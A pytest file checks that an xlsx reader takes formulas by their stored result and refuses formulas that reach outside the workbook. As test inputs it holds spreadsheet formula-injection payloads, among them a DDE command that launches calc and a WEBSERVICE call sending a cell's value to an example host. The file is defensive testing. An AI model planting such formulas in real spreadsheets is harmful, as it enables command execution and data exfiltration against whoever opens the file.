"""Formulas are taken by their result, or refused by their address."""

from __future__ import annotations

import pytest
from openpyxl import Workbook

from congress_app.kernel.errors import Unreadable
from tests.formats.xlsx.parts import refused, rows, saved, workbook


def test_honest_formulas_give_their_stored_result() -> None:
    xml = (
        '<row r="1"><c r="A1"><f>ROW()-1</f><v>0</v></c>'
        '<c r="B1" t="str"><f>C1&amp;" | "&amp;D1</f><v>Lê Ý</v></c>'
        '<c r="C1"><f t="shared" si="0"/><v>5</v></c><c r="D1"><v>6</v></c></row>'
    )
    assert rows(xml) == [(1, (0, "Lê Ý", 5, 6))]


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.org/"&amp;A1)',
        'HYPERLINK("http://example.org","x")',
        "cmd|'/c calc'!A0",
        "webservice (A1)",
        "DDE(1,2,3)",
    ],
)
def test_formulas_that_reach_out_are_refused_by_address(formula: str) -> None:
    kind, sentence = refused(
        workbook(f'<row r="7"><c r="D7" t="str"><f>{formula}</f><v>ok</v></c></row>')
    )
    assert kind is Unreadable
    assert sentence.startswith("Ô D7 chứa công thức không an toàn")


def test_a_formula_without_a_result_is_refused_by_address() -> None:
    book = Workbook()
    book.active["B3"] = "=1+1"
    kind, sentence = refused(saved(book))
    assert kind is Unreadable
    assert sentence.startswith("Ô B3 chứa công thức chưa có kết quả")
